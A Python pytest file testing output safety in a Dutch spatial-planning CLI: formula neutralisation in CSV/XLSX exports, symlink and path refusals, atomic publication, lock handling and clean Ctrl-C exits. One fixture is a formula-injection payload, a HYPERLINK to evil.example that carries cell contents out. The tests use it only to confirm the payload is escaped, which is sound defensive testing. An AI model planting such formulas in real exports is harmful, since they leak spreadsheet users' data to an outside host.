"""Safe outputs (issue 12): each attack reproduced, each failing safely.

No formula in a table, never an input overwritten (also not through a symlink in
``--out`` or ``--kaart`` pointing at an input), exit 2 before any computation for
bad output paths and a second run on the same folder, all outputs old or all new,
stale temporary folders removed, and Ctrl-C without a traceback.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from test_bad_input import build_region, snapshot

from werkruimte import export
from werkruimte.cli import main
from werkruimte.export.veilig import neutraliseer
from werkruimte.run import lees_run

FORMULE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("veilig") / "regio"
    build_region(root)
    hot = root / "hotspots.csv"
    hot.write_text(
        f"naam;type;x;y\n{FORMULE.replace(';', ',')};broedplaats;140150;470150\n"
        "-Station;ov-knooppunt;140300;470050\n",
        encoding="utf-8",
    )
    return root


@pytest.fixture
def region(base: Path, tmp_path: Path) -> Path:
    root = tmp_path / "regio"
    shutil.copytree(base, root)
    return root


def run(root: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    before = snapshot(root)
    code = main([*args, "--config", str(root / "werkruimte.toml"), "-q"])
    err = capsys.readouterr().err
    assert snapshot(root) == before, "invoer veranderd"
    assert "Traceback" not in err
    return code, err


# --------------------------------------------------------------------------- formulas


def test_neutraliseer_only_text_cells() -> None:
    frame = pd.DataFrame(
        {
            "naam": ["=1+1", "+31 6", "-x", "@SUM(A1)", "\tt", "\rr", "gewoon", None],
            "getal": [-1.5, -2.0, 3.0, 0.0, 1.0, 2.0, 3.0, 4.0],
        }
    )
    out = neutraliseer(frame)
    assert out["naam"].tolist()[:7] == [
        "'=1+1",
        "'+31 6",
        "'-x",
        "'@SUM(A1)",
        "'\tt",
        "'\rr",
        "gewoon",
    ]
    assert pd.isna(out["naam"].iloc[7])
    assert out["getal"].tolist() == frame["getal"].tolist()  # negative numbers stay numbers
    assert frame["naam"].iloc[0] == "=1+1"  # the input is not changed


def test_no_formula_in_csv_or_xlsx(region: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = region / "out"
    code, err = run(region, capsys, "driedeling", "--out", str(out))
    assert code == 0, err
    csv = (out / "driedeling.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in csv and "'-Station" in csv
    assert "\n=HYPERLINK" not in csv and ";=HYPERLINK" not in csv
    book = openpyxl.load_workbook(out / "driedeling.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    evil = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)
    numbers = [c for c in cells if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)


# --------------------------------------------------------------------------- paths


def test_symlink_in_out_is_replaced_not_followed(
    region: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = region / "out"
    out.mkdir()
    (out / "middensegment.csv").symlink_to(region / "hotspots.csv")
    (out / "percelen_scores.gpkg").symlink_to(region / "percelen.gpkg")
    code, err = run(region, capsys, "driedeling", "--out", str(out))
    assert code == 0, err
    for name in ("middensegment.csv", "percelen_scores.gpkg"):
        assert not (out / name).is_symlink() and (out / name).is_file()


@pytest.mark.parametrize(
    ("kaart", "needle"),
    [
        ("werkruimte.toml", "invoer"),
        ("percelen.gpkg", "invoer"),
        ("gtfs/stops.txt", "invoer"),
        ("gtfs", "geen map"),
        ("hotspots.csv/kaart.html", "is een bestand"),
    ],
)
def test_kaart_on_an_input_is_refused_before_any_work(
    region: Path, capsys: pytest.CaptureFixture[str], kaart: str, needle: str
) -> None:
    t0 = time.perf_counter()
    code, err = run(
        region, capsys, "kansenkaart", "--out", str(region / "out"), "--kaart", str(region / kaart)
    )
    assert code == 2 and err.startswith("fout: ") and needle in err, err
    assert len(err.strip().splitlines()) == 1
    assert time.perf_counter() - t0 < 5  # before loading or scoring anything
    assert not (region / "out").exists()


def test_kaart_symlink_to_the_config_is_refused(
    region: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    link = region / "kaart.html"
    link.symlink_to(region / "werkruimte.toml")
    code, err = run(region, capsys, "kansenkaart", "--out", str(region / "o"), "--kaart", str(link))
    assert code == 2 and "invoer" in err


def test_out_inside_the_demo_data_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    from werkruimte.config import demo_config_path

    demo = demo_config_path().parent
    code = main(["score", "--out", str(demo / "data"), "-q"])
    assert code == 2 and "invoer" in capsys.readouterr().err


def test_out_being_a_file_is_exit_2(region: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (region / "bestand").write_text("x")
    code, err = run(region, capsys, "score", "--out", str(region / "bestand"))
    assert code == 2 and "moet een map zijn" in err


# --------------------------------------------------------------------------- all or nothing


def test_manifest_names_the_outputs_of_its_run(
    region: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = region / "out"
    assert run(region, capsys, "score", "--out", str(out))[0] == 0
    data = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert [Path(p).name for p in data["uitvoer"]] == ["percelen_scores.gpkg", "manifest.json"]
    assert lees_run(out).heeft("percelen_scores.gpkg")
    assert not list(out.glob(".werkruimte-tmp-*"))


def test_failed_publication_puts_every_old_file_back(
    region: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    out = region / "out"
    assert run(region, capsys, "driedeling", "--out", str(out))[0] == 0
    old = {p.name: p.read_bytes() for p in out.iterdir()}
    real_replace = os.replace
    calls = {"n": 0}

    def flaky(src: object, dst: object) -> None:
        calls["n"] += 1
        if calls["n"] == 6:  # halfway through publishing
            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        real_replace(src, dst)

    monkeypatch.setattr(export.os, "replace", flaky)
    code, err = run(region, capsys, "driedeling", "--out", str(out))
    assert code == 2 and "schijf is vol" in err and "teruggezet" in err, err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == old


def test_stale_temp_folder_is_removed_and_a_living_one_kept(
    region: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = region / "out"
    dood = out / ".werkruimte-tmp-dood"
    dood.mkdir(parents=True)
    (dood / "groot.gpkg").write_bytes(b"x" * 1000)
    levend = out / ".werkruimte-tmp-levend"
    levend.mkdir()
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import fcntl, os, sys, time\n"
            f"fd = os.open({str(levend)!r}, os.O_RDONLY)\n"
            "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('ok', flush=True)\ntime.sleep(60)\n",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "ok"
        assert run(region, capsys, "score", "--out", str(out))[0] == 0
        assert not dood.exists()
        assert levend.exists()
    finally:
        holder.kill()
        holder.wait()


def test_second_run_on_the_same_folder_stops(
    region: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = region / "out"
    out.mkdir()
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import fcntl, os, time\n"
            f"fd = os.open({str(out)!r}, os.O_RDONLY)\n"
            "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('ok', flush=True)\ntime.sleep(60)\n",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "ok"
        code, err = run(region, capsys, "score", "--out", str(out))
        assert code == 2 and "andere werkruimte-run" in err, err
        assert list(out.iterdir()) == []
    finally:
        holder.kill()
        holder.wait()


# --------------------------------------------------------------------------- signals


def test_sigint_right_after_start_has_no_traceback(tmp_path: Path) -> None:
    """SIGINT once main() runs (the package import itself is the lead's part)."""
    code = (
        "import sys, werkruimte.cli as c\n"
        "print('klaar', flush=True)\n"
        f"sys.exit(c.main(['kansenkaart', '--out', {str(tmp_path / 'out')!r}, '-q']))\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", code],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "klaar"
    time.sleep(0.3)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, err
    assert "Traceback" not in err and "KeyboardInterrupt" not in err
    assert "afgebroken" in err and "ongewijzigd" in err
